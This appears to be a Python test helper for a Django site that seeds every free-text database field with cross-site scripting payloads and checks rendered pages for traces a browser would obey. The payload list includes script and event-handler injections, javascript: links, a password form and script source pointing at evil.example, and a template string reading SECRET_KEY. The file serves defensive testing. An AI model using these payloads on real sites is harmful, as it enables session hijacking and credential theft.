"""Texts that attack a page, and what would be seen of it if one of them worked."""

import re
from contextlib import suppress
from itertools import cycle

import lxml.html
from django.apps import apps
from django.db import DatabaseError, models, transaction

from creativecity.ledger import triggers

XSS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)' x='",
    "x onclick=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<form action=//evil.example><input name=password></form>",
    "<button form=f formaction=javascript:alert(1)>x</button>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</title></textarea></style><script>alert(1)</script>",
    "[x](javascript:alert(1)) <javascript:alert(1)>",
    "![x](https://evil.example/a.png)",
    "<a href='java\tscript:alert(1)'>x</a>",
    "{{ 7|add:'x' }}{% debug %}{{ settings.SECRET_KEY }}",
    "\u2028alert(1)\u2029<img src=x onerror=alert(1)>",
    "<div hx-get='/th/staff/' hx-trigger=load>x</div>",
    "<x data-hx-post='/th/accounts/logout/' data-hx-trigger='load'>x</x>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img onerror=x&#62;",
]
SCRIPTED = re.compile(r"[\s\x00-\x1f]*(javascript|data|vbscript):", re.IGNORECASE)
#: Elements that no page of ours has.
STRANGE = {"iframe", "object", "embed", "math", "style", "x", "frame", "applet"}
#: Our own embed, the one thing framed; scripts that hold data and run nothing.
FRAMED = "/embed/cities/"
DATA = {"application/ld+json", "application/json"}
LEADS = ("href", "src", "action", "formaction", "{http://www.w3.org/1999/xlink}")


def traces(html):
    """What of a payload a browser would obey on this page, a line each."""
    return [
        f"{element.tag}: {fault}"
        for element in lxml.html.document_fromstring(html).iter()
        if isinstance(element.tag, str)
        for fault in _faults(element)
    ]


def _faults(element):
    leads = element.tag == "base" and element.get("href")
    is_strange = element.tag in STRANGE and not _is_our_frame(element)
    if is_strange or element.get("http-equiv") or leads:
        yield "is on no page of ours"
    if element.tag == "script" and not _is_ours(element):
        yield "is no script of ours"
    for name, value in element.attrib.items():
        if name.startswith("on") or name in {"style", "srcdoc"} or "'" in name:
            yield name
        if name.startswith(LEADS) and SCRIPTED.match(value):
            yield f"{name} {value}"
        if name in {"src", "action", "formaction"} and "evil.example" in value:
            yield f"{name} {value}"
        if "hx-" in name and value in {"/th/staff/", "/th/accounts/logout/", "load"}:
            yield f"{name} {value}"


def _is_our_frame(element):
    return element.tag == "iframe" and element.get("src", "").startswith(FRAMED)


def _is_ours(script):
    if script.get("type") in DATA:
        return "alert(1)</script>" not in (script.text or "")
    return script.get("src", "").startswith("/static/")


#: Texts that name a thing to the program, and are chosen from what it knows.
NAMES = {"code", "slug", "number", "reference", "version", "subject", "verb", "topic"}
NAMES |= {
    "decision",
    "kind",
    "basis",
    "state",
    "status",
    "media_type",
    "sha256",
    "digest",
    "hash",
    "values",  # JSON that was frozen
    "indicator_code",
}


def poison(*payloads):
    """Every free text that the database holds becomes one of these, field by field in
    turn, in append-only rows too.

    The triggers go until the test is over, and come back with its transaction.
    """
    triggers.remove()
    turns = cycle(payloads)
    for model, fields in texts():
        for field in fields:
            text = next(turns)
            value = text[: field.max_length] if field.max_length else text
            # A constraint may want it otherwise: empty, or in one form.
            with suppress(DatabaseError), transaction.atomic():
                model._base_manager.update(**{field.name: value})


def texts():
    """(model, its fields of free text) of all that people write."""
    for model in [*_models("cities"), *_models("programmes")]:
        fields = [f for f in model._meta.concrete_fields if _is_free_text(f)]
        if fields:
            yield model, fields


def _models(label):
    return apps.get_app_config(label).get_models()


def _is_free_text(field):
    is_text = type(field) in {models.CharField, models.TextField}
    return is_text and not (field.choices or field.unique or field.name in NAMES)
